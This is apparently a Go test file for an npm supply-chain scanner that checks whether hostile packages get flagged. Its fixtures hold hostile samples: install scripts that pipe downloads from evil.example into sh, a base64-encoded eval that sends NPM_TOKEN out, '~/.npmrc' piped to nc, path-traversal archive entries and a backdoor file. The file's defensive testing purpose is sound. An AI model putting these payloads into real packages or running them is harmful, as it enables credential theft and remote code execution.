package inspect_test

import (
	"context"
	"crypto/sha1"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/rampartsec/rampart/audit/deps"
	"github.com/rampartsec/rampart/audit/deps/inspect"
	"github.com/rampartsec/rampart/audit/deps/lockfile"
	"github.com/rampartsec/rampart/audit/deps/osv"
	"github.com/rampartsec/rampart/audit/deps/registry"
	"github.com/rampartsec/rampart/internal/npmregistrytest"
)

var now = time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)

const payload = "Y29uc3QgaHR0cHMgPSByZXF1aXJlKCdodHRwcycpOyBodHRwcy5nZXQoJ2h0dHBzOi8vZXhmaWwuZXhhbXBsZS8nICsgcHJvY2Vzcy5lbnYuTlBNX1RPS0VOKQ=="

// fixtures publishes the packages the tests inspect and returns them as a
// lockfile would pin them.
func fixtures(t *testing.T, reg *npmregistrytest.Registry) map[string]inspect.Package {
	t.Helper()
	pkgs := map[string]inspect.Package{}
	add := func(p npmregistrytest.Package, lockIntegrity string) {
		integ := reg.Publish(p)
		if lockIntegrity != "" {
			integ = lockIntegrity
		}
		pkgs[p.Name] = inspect.Package{Source: "package-lock.json", Package: lockfile.Package{
			Name: p.Name, Version: p.Version, Ecosystem: lockfile.EcosystemNPM, Line: 10 + len(pkgs),
			Resolved: reg.TarballURL(p.Name, p.Version), Integrity: integ, InstallScript: len(p.Scripts) > 0}}
	}
	add(npmregistrytest.Package{Name: "clean-utils", Version: "1.2.3", Provenance: true,
		Files: map[string]string{"index.js": "'use strict'\nmodule.exports = function add (a, b) {\n  return a + b\n}\n"}}, "")
	add(npmregistrytest.Package{Name: "postinstall-dropper", Version: "2.0.0", Scripts: map[string]string{"postinstall": "node scripts/setup.js"},
		Files: map[string]string{
			"index.js":         "module.exports = 1\n",
			"scripts/setup.js": "const fs = require('fs')\nconst { get } = require('./fetch')\n\nget('https://evil.example/run.sh', (body) => {\n  require('child_process').execSync(body)\n})\n",
			"scripts/fetch.js": "const https = require('https')\nexports.get = (u, cb) => https.get(u, (r) => { let b = ''; r.on('data', (d) => { b += d }); r.on('end', () => cb(b)) })\n",
		}}, "")
	add(npmregistrytest.Package{Name: "curl-sh", Version: "1.0.0", Scripts: map[string]string{"preinstall": "curl -fsSL https://evil.example/x.sh | sh"},
		Files: map[string]string{"index.js": "module.exports = 1\n"}}, "")
	add(npmregistrytest.Package{Name: "b64-eval", Version: "0.1.0",
		Files: map[string]string{"lib/index.js": "'use strict'\n\nconst data = '" + payload + "'\nmodule.exports = () => eval(Buffer.from(data, 'base64').toString())\n"}}, "")
	add(npmregistrytest.Package{Name: "lodahs", Version: "4.17.21", Files: map[string]string{"index.js": "module.exports = {}\n"}}, "")
	add(npmregistrytest.Package{Name: "traversal", Version: "1.0.0", Tarball: npmregistrytest.RawTarball([]npmregistrytest.Entry{
		{Name: "package/package.json", Body: `{"name":"traversal","version":"1.0.0"}`},
		{Name: "package/../../../home/user/.bashrc", Body: "curl evil | sh\n"},
		{Name: "package/link", Type: '2', Linkname: "/etc/passwd"},
	})}, "")
	add(npmregistrytest.Package{Name: "forged-sig", Version: "3.0.0", BadSignature: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
	add(npmregistrytest.Package{Name: "bad-provenance", Version: "1.0.0", Provenance: true, BadProvenance: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
	// Provenance from another repository than the package declares, and
	// one whose log entry records another signature.
	add(npmregistrytest.Package{Name: "stolen-provenance", Version: "1.0.0", Provenance: true, ProvenanceRepository: "https://github.com/mallory/stolen-provenance",
		Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
	add(npmregistrytest.Package{Name: "relogged", Version: "1.0.0", Provenance: true, TamperedLog: true, Files: map[string]string{"index.js": "module.exports = 3\n"}}, "")
	add(npmregistrytest.Package{Name: "swapped-archive", Version: "1.0.0", Files: map[string]string{"index.js": "module.exports = 3\n"}},
		npmregistrytest.Integrity([]byte("what the lockfile pinned")))
	// An older version by another maintainer, then a fresh one by a stranger.
	reg.Publish(npmregistrytest.Package{Name: "hijacked", Version: "1.0.0", Maintainers: []string{"alice"}, Published: now.AddDate(-1, 0, 0)})
	add(npmregistrytest.Package{Name: "hijacked", Version: "1.0.1", Maintainers: []string{"mallory"}, Published: now.Add(-36 * time.Hour),
		Files: map[string]string{"index.js": "module.exports = 1\n"}}, "")
	return pkgs
}

func config(reg *npmregistrytest.Registry, cache string) inspect.Config {
	root, err := registry.ParseTrustedRoot(reg.TrustedRootJSON())
	if err != nil {
		panic(err)
	}
	return inspect.Config{Registry: &registry.Client{BaseURL: reg.URL(), Timeout: 10 * time.Second}, Cache: &registry.Cache{Dir: cache},
		TrustedRoot: root, Now: func() time.Time { return now }}
}

func bySignal(signals []deps.Signal, pkg string) []deps.Signal {
	var out []deps.Signal
	for _, s := range signals {
		if s.Package == pkg {
			out = append(out, s)
		}
	}
	return out
}

func has(signals []deps.Signal, kind deps.SignalKind, minSev osv.Severity, file string, line int, detail string) bool {
	for _, s := range signals {
		if s.Kind == kind && s.Severity >= minSev && (file == "" || s.File == file) && (line == 0 || s.FileLine == line) && strings.Contains(s.Detail, detail) {
			return true
		}
	}
	return false
}

func TestRun(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	pkgs := fixtures(t, reg)
	var list []inspect.Package
	for _, p := range pkgs {
		list = append(list, p)
	}
	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	res, err := inspect.Run(ctx, config(reg, t.TempDir()), list)
	if err != nil {
		t.Fatal(err)
	}
	dump := func(pkg string) string {
		var b strings.Builder
		for _, s := range bySignal(res.Signals, pkg) {
			fmt.Fprintf(&b, "\n  %s %s %s:%d %s", s.Severity, s.Kind, s.File, s.FileLine, s.Detail)
		}
		return b.String()
	}
	tests := []struct {
		pkg    string
		kind   deps.SignalKind
		sev    osv.Severity
		file   string
		line   int
		detail string
	}{
		{"postinstall-dropper", deps.SignalInstallBehaviour, osv.SeverityHigh, "scripts/fetch.js", 1, "postinstall: makes network requests"},
		{"postinstall-dropper", deps.SignalInstallBehaviour, osv.SeverityHigh, "scripts/setup.js", 5, "postinstall: spawns processes"},
		{"postinstall-dropper", deps.SignalInstallBehaviour, osv.SeverityCritical, "", 0, "downloads and runs code at install time"},
		{"curl-sh", deps.SignalInstallBehaviour, osv.SeverityCritical, "package.json", 0, "pipes a download into an interpreter"},
		{"b64-eval", deps.SignalObfuscated, osv.SeverityHigh, "lib/index.js", 4, "eval runs a payload decoded from base64"},
		{"b64-eval", deps.SignalDynamicCode, osv.SeverityModerate, "lib/index.js", 4, "calls eval"},
		{"lodahs", deps.SignalTyposquat, osv.SeverityModerate, "", 0, `"lodash"`},
		{"traversal", deps.SignalHostileArchive, osv.SeverityCritical, "package/../../../home/user/.bashrc", 0, "path-traversal"},
		{"traversal", deps.SignalHostileArchive, osv.SeverityCritical, "package/link", 0, "link"},
		{"forged-sig", deps.SignalBadSignature, osv.SeverityCritical, "", 0, "signature does not verify"},
		{"bad-provenance", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "provenance attestation"},
		{"stolen-provenance", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "built from https://github.com/mallory/stolen-provenance"},
		{"relogged", deps.SignalBadAttestation, osv.SeverityCritical, "", 0, "the entry records another signature or signer"},
		{"swapped-archive", deps.SignalIntegrityMismatch, osv.SeverityCritical, "", 0, "does not match the lockfile's sha512 hash"},
		{"hijacked", deps.SignalNewVersion, osv.SeverityLow, "", 0, "published 2026-11-30"},
		{"hijacked", deps.SignalMaintainerChange, osv.SeverityHigh, "", 0, "maintainers added: mallory"},
	}
	for _, tc := range tests {
		if !has(bySignal(res.Signals, tc.pkg), tc.kind, tc.sev, tc.file, tc.line, tc.detail) {
			t.Errorf("%s: want %s (%s+) at %s:%d with %q; got:%s", tc.pkg, tc.kind, tc.sev, tc.file, tc.line, tc.detail, dump(tc.pkg))
		}
	}
	// Every version's registry signature verifies but forged-sig's (the
	// swapped archive's too: the registry signed what it serves, the
	// lockfile pins something else); clean-utils' provenance is the one
	// that verifies.
	if res.Verified.Signatures != len(pkgs)-1 || res.Verified.Provenance != 1 {
		t.Errorf("got %+v verified, want %d signatures and 1 provenance", res.Verified, len(pkgs)-1)
	}
	if len(res.Provenance) != 1 || res.Provenance[0].Package != "clean-utils" || res.Provenance[0].Repository != "https://github.com/acme/clean-utils" ||
		res.Provenance[0].Workflow != "https://github.com/acme/clean-utils/.github/workflows/release.yml@refs/heads/main" || res.Provenance[0].Logged != "2025-01-01T00:00:00Z" {
		t.Errorf("got provenance %+v, want clean-utils built by its release workflow", res.Provenance)
	}
	if got := bySignal(res.Signals, "clean-utils"); len(got) != 0 {
		t.Errorf("clean-utils: got%s, want no signal", dump("clean-utils"))
	}
	for _, g := range res.Gaps {
		if !strings.HasPrefix(g.Entry, "swapped-archive@") {
			t.Errorf("got gap %v, want gaps only for the swapped archive", g)
		}
	}
	if res.Inspected != len(pkgs)-1 {
		t.Errorf("got %d inspected, want %d (all but the swapped archive)", res.Inspected, len(pkgs)-1)
	}
}

func TestRunFromCacheOffline(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	pkgs := fixtures(t, reg)
	cache := t.TempDir()
	p := pkgs["b64-eval"]
	ctx := context.Background()
	if _, err := inspect.Run(ctx, config(reg, cache), []inspect.Package{p}); err != nil {
		t.Fatal(err)
	}
	before := reg.Requests("/b64-eval/-/b64-eval-0.1.0.tgz")
	res, err := inspect.Run(ctx, inspect.Config{Cache: &registry.Cache{Dir: cache}, Now: func() time.Time { return now }}, []inspect.Package{p})
	if err != nil {
		t.Fatal(err)
	}
	if reg.Requests("/b64-eval/-/b64-eval-0.1.0.tgz") != before {
		t.Fatal("got a registry request, want the archive from the cache")
	}
	if !has(res.Signals, deps.SignalObfuscated, osv.SeverityHigh, "lib/index.js", 4, "") || res.Inspected != 1 {
		t.Fatalf("got %+v, want the obfuscated signal from the cached archive", res)
	}
	// Offline and not cached: a gap, never a silent pass.
	res, _ = inspect.Run(ctx, inspect.Config{Cache: &registry.Cache{Dir: t.TempDir()}}, []inspect.Package{pkgs["clean-utils"]})
	if len(res.Gaps) != 1 || res.Inspected != 0 {
		t.Fatalf("got %+v, want one gap", res)
	}
}

func TestInstalledTampered(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	pkgs := fixtures(t, reg)
	project := t.TempDir()
	nm := filepath.Join(project, "node_modules", "clean-utils")
	if err := os.MkdirAll(nm, 0o755); err != nil {
		t.Fatal(err)
	}
	write := func(name, body string) {
		if err := os.WriteFile(filepath.Join(nm, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("package.json", `{"_resolved":"added by an old npm","name":"clean-utils","repository":{"type":"git","url":"git+https://github.com/acme/clean-utils.git"},"scripts":null,"version":"1.2.3"}`)
	write("index.js", "'use strict'\nmodule.exports = function add (a, b) {\n  require('https').get('https://evil.example/?' + a)\n  return a + b\n}\n")
	cfg := config(reg, t.TempDir())
	cfg.Installed = project
	res, err := inspect.Run(context.Background(), cfg, []inspect.Package{pkgs["clean-utils"]})
	if err != nil {
		t.Fatal(err)
	}
	if !has(res.Signals, deps.SignalInstalledModified, osv.SeverityCritical, "index.js", 3, "node_modules/clean-utils/index.js:3 differs") {
		t.Fatalf("got %+v, want index.js reported as modified", res.Signals)
	}
	for _, s := range res.Signals {
		if s.File == "package.json" {
			t.Fatalf("got %+v: the _ fields old npm adds are not a change", s)
		}
	}
	// Untouched: nothing.
	write("index.js", "'use strict'\nmodule.exports = function add (a, b) {\n  return a + b\n}\n")
	res, _ = inspect.Run(context.Background(), cfg, []inspect.Package{pkgs["clean-utils"]})
	if len(res.Signals) != 0 {
		t.Fatalf("got %+v, want none", res.Signals)
	}
	// Another version installed than the lockfile pins.
	other := pkgs["clean-utils"]
	other.Version = "1.2.4"
	reg.Publish(npmregistrytest.Package{Name: "clean-utils", Version: "1.2.4", Files: map[string]string{"index.js": "module.exports = 2\n"}})
	other.Integrity = ""
	other.Resolved = reg.TarballURL("clean-utils", "1.2.4")
	res, _ = inspect.Run(context.Background(), cfg, []inspect.Package{other})
	if !has(res.Signals, deps.SignalInstalledModified, osv.SeverityModerate, "", 0, "the lockfile pins 1.2.4") {
		t.Fatalf("got %+v, want the version mismatch", res.Signals)
	}
	// Code added after install, by a package with no install script.
	write("backdoor.js", "require('child_process').exec(process.argv[2])\n")
	res, _ = inspect.Run(context.Background(), cfg, []inspect.Package{pkgs["clean-utils"]})
	if !has(res.Signals, deps.SignalInstalledModified, osv.SeverityHigh, "backdoor.js", 0, "the archive does not hold") {
		t.Fatalf("got %+v, want the added file reported", res.Signals)
	}
}

func TestForeignArchiveNotFetched(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	pkgs := fixtures(t, reg)
	p := pkgs["clean-utils"]
	p.Origin = lockfile.OriginTarball
	p.Resolved = "http://127.0.0.2:9/evil.tgz"
	res, err := inspect.Run(context.Background(), config(reg, t.TempDir()), []inspect.Package{p})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Gaps) != 1 || !strings.Contains(res.Gaps[0].Reason, "outside the registry") {
		t.Fatalf("got %+v, want a gap for the foreign archive", res.Gaps)
	}
}

func TestHostileNamesEscaped(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	tgz := npmregistrytest.RawTarball([]npmregistrytest.Entry{
		{Name: "package/package.json", Body: `{"name":"esc","version":"1.0.0"}`},
		{Name: "package/\x1b[2J\u202eevil.js", Body: "require('\x1b]0;pwned\x07http')\n"},
		{Name: "package/../\x1b[31m", Body: "x"},
	})
	integ := reg.Publish(npmregistrytest.Package{Name: "esc", Version: "1.0.0", Tarball: tgz})
	res, err := inspect.Run(context.Background(), config(reg, t.TempDir()), []inspect.Package{{Source: "l", Package: lockfile.Package{
		Name: "esc", Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: integ}}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Signals) == 0 {
		t.Fatal("got no signals")
	}
	for _, s := range res.Signals {
		if strings.ContainsAny(s.Detail+s.File, "\x1b\x07\u202e") {
			t.Fatalf("got raw control characters in %q / %q", s.Detail, s.File)
		}
	}
}

func TestBombIsASignalAndAGap(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	zeros := strings.Repeat("\x00", 8<<20)
	integ := reg.Publish(npmregistrytest.Package{Name: "bomb", Version: "1.0.0", Files: map[string]string{"index.js": "module.exports = 1\n", "zeros.bin": zeros}})
	res, err := inspect.Run(context.Background(), config(reg, t.TempDir()), []inspect.Package{{Source: "l", Package: lockfile.Package{
		Name: "bomb", Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: integ}}})
	if err != nil {
		t.Fatal(err)
	}
	if !has(res.Signals, deps.SignalHostileArchive, osv.SeverityHigh, "", 0, "compression bomb") {
		t.Fatalf("got %+v, want a bomb signal", res.Signals)
	}
	if len(res.Gaps) != 1 || !strings.Contains(res.Gaps[0].Reason, "only partly read") {
		t.Fatalf("got gaps %+v, want the partial read reported", res.Gaps)
	}
}

func TestSHA1LockfileCheckedAgainstRegistry(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	files := map[string]string{"index.js": "module.exports = 1\n"}
	tgz := npmregistrytest.Tarball(map[string]string{"index.js": files["index.js"], "package.json": `{"name":"old-lock","version":"1.0.0"}`})
	sum := sha1.Sum(tgz)
	sha1Integ := "sha1-" + base64.StdEncoding.EncodeToString(sum[:])
	reg.Publish(npmregistrytest.Package{Name: "old-lock", Version: "1.0.0", Tarball: tgz, DistIntegrity: npmregistrytest.Integrity([]byte("the published archive"))})
	res, err := inspect.Run(context.Background(), config(reg, t.TempDir()), []inspect.Package{{Source: "l", Package: lockfile.Package{
		Name: "old-lock", Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: sha1Integ}}})
	if err != nil {
		t.Fatal(err)
	}
	if !has(res.Signals, deps.SignalIntegrityMismatch, osv.SeverityCritical, "", 0, "matches the lockfile's sha1 hash but not the registry's sha512") {
		t.Fatalf("got %+v, want the registry's hash to catch it", res.Signals)
	}
}

func TestInstallScriptVariants(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	tests := []struct {
		name    string
		scripts map[string]string
		files   map[string]string
		sev     osv.Severity
		file    string
		line    int
		detail  string
	}{
		{"wget to bash", map[string]string{"preinstall": "wget -qO- http://evil.example/i | bash"}, nil, osv.SeverityCritical, "package.json", 0, "pipes a download into an interpreter"},
		{"subshell download", map[string]string{"install": `bash -c "$(curl -fsSL https://evil.example/i.sh)"`}, nil, osv.SeverityCritical, "package.json", 0, "pipes a download into an interpreter"},
		{"download then run", map[string]string{"postinstall": "curl -fsSLo /tmp/x https://evil.example/x && chmod +x /tmp/x && /tmp/x"}, nil, osv.SeverityCritical, "package.json", 0, "downloads a file and runs it"},
		{"wget then sh", map[string]string{"preinstall": "wget -q https://evil.example/s.sh; sh s.sh"}, nil, osv.SeverityCritical, "package.json", 0, "downloads a file and runs it"},
		{"inline node", map[string]string{"postinstall": `node -e "require(\"https\").get('https://evil.example/' + process.env.NPM_TOKEN)"`}, nil, osv.SeverityCritical, "package.json", 0, "reads secrets from the environment"},
		{"inline node network", map[string]string{"postinstall": `node -e "require('https').get('https://evil.example/x')"`}, nil, osv.SeverityHigh, "package.json", 0, "makes network requests (requires https, in node -e)"},
		{"npm run chain", map[string]string{"postinstall": "npm run setup", "setup": "node tools/setup"}, map[string]string{"tools/setup.js": "\n\nrequire('child_process').spawn('sh')\n"}, osv.SeverityHigh, "tools/setup.js", 3, "postinstall: spawns processes"},
		{"shell file", map[string]string{"install": "sh ./install.sh"}, map[string]string{"install.sh": "#!/bin/sh\nset -e\ncat ~/.npmrc | nc evil.example 80\n"}, osv.SeverityCritical, "install.sh", 3, "reads credentials"},
		{"writes home", map[string]string{"postinstall": "node i.js"}, map[string]string{"i.js": "const fs = require('fs')\nfs.appendFileSync(require('os').homedir() + '/.bashrc', 'x')\n"}, osv.SeverityHigh, "i.js", 2, "writes outside the package"},
		{"minified", map[string]string{"postinstall": "node m.js"}, map[string]string{"m.js": strings.Repeat("var a=1;", 1000)}, osv.SeverityHigh, "m.js", 1, "runs minified code"},
	}
	for i, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			name := fmt.Sprintf("script-%d", i)
			files := map[string]string{"index.js": "module.exports = 1\n"}
			for k, v := range tc.files {
				files[k] = v
			}
			integ := reg.Publish(npmregistrytest.Package{Name: name, Version: "1.0.0", Scripts: tc.scripts, Files: files})
			res, err := inspect.Run(context.Background(), config(reg, t.TempDir()), []inspect.Package{{Source: "l", Package: lockfile.Package{
				Name: name, Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: integ}}})
			if err != nil {
				t.Fatal(err)
			}
			kinds := []deps.SignalKind{deps.SignalInstallBehaviour, deps.SignalObfuscated}
			for _, k := range kinds {
				if has(res.Signals, k, tc.sev, tc.file, tc.line, tc.detail) {
					return
				}
			}
			t.Fatalf("want %s at %s:%d with %q; got %+v", tc.sev, tc.file, tc.line, tc.detail, res.Signals)
		})
	}
}

func TestPackageTimeBound(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	files := map[string]string{}
	for i := range 50 {
		files[fmt.Sprintf("lib/f%02d.js", i)] = fmt.Sprintf("exports.a%d = require('./f%02d')\n", i, (i+1)%50)
	}
	integ := reg.Publish(npmregistrytest.Package{Name: "slow", Version: "1.0.0", Files: files})
	cfg := config(reg, t.TempDir())
	cfg.PackageTime = time.Nanosecond
	res, err := inspect.Run(context.Background(), cfg, []inspect.Package{{Source: "l", Package: lockfile.Package{
		Name: "slow", Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: integ}}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Gaps) != 1 || !strings.Contains(res.Gaps[0].Reason, "time bound") {
		t.Fatalf("got gaps %+v, want the time bound reported", res.Gaps)
	}
}

func TestRegistryWithoutKeys(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	integ := reg.Publish(npmregistrytest.Package{Name: "private-lib", Version: "1.0.0", Files: map[string]string{"index.js": "module.exports = 1\n"}})
	// A registry that answers everything but the keys endpoint.
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/-/npm/v1/keys" {
			http.NotFound(w, r)
			return
		}
		u, _ := url.Parse(reg.URL())
		httputil.NewSingleHostReverseProxy(u).ServeHTTP(w, r)
	}))
	defer srv.Close()
	cfg := config(reg, t.TempDir())
	cfg.Registry = &registry.Client{BaseURL: srv.URL}
	res, err := inspect.Run(context.Background(), cfg, []inspect.Package{{Source: "l", Package: lockfile.Package{
		Name: "private-lib", Version: "1.0.0", Ecosystem: lockfile.EcosystemNPM, Integrity: integ}}})
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Gaps) != 0 || len(res.Signals) != 0 || len(res.Notes) != 2 || !strings.Contains(res.Notes[0], "no signing keys") {
		t.Fatalf("got gaps %v signals %v notes %v, want two notes, no gap and no signal", res.Gaps, res.Signals, res.Notes)
	}
}

// TestRotatedRegistryKey: the keys endpoint says the key expired; versions
// signed before verify, one published after is a forgery made with a
// retired (perhaps leaked) key: its signature and its publish attestation.
func TestRotatedRegistryKey(t *testing.T) {
	t.Parallel()
	reg := npmregistrytest.New(t)
	lib := map[string]string{"index.js": "module.exports = 1\n"}
	before := reg.Publish(npmregistrytest.Package{Name: "rotated", Version: "1.0.0", Files: lib, Published: time.Date(2024, 6, 1, 0, 0, 0, 0, time.UTC)})
	after := reg.Publish(npmregistrytest.Package{Name: "rotated", Version: "1.1.0", Files: lib, Published: time.Date(2025, 6, 1, 0, 0, 0, 0, time.UTC)})
	reg.ExpireKey(time.Date(2025, 1, 29, 0, 0, 0, 0, time.UTC))
	pkg := func(v, integ string) inspect.Package {
		return inspect.Package{Source: "package-lock.json", Package: lockfile.Package{Name: "rotated", Version: v, Ecosystem: lockfile.EcosystemNPM,
			Resolved: reg.TarballURL("rotated", v), Integrity: integ}}
	}
	res, err := inspect.Run(context.Background(), config(reg, t.TempDir()), []inspect.Package{pkg("1.0.0", before), pkg("1.1.0", after)})
	if err != nil {
		t.Fatal(err)
	}
	var bad []deps.Signal
	for _, s := range res.Signals {
		if s.Kind == deps.SignalBadSignature || s.Kind == deps.SignalBadAttestation {
			bad = append(bad, s)
		}
	}
	// The signature and the publish attestation of 1.1.0 were both made
	// with the retired key.
	if len(bad) != 2 {
		t.Fatalf("got %+v, want a bad-signature and a bad-attestation for 1.1.0", bad)
	}
	for _, s := range bad {
		if s.Version != "1.1.0" || s.Severity != osv.SeverityCritical || !strings.Contains(s.Detail, "expired 2025-01-29") {
			t.Errorf("got %+v, want critical, for 1.1.0, naming the expiry", s)
		}
	}
}
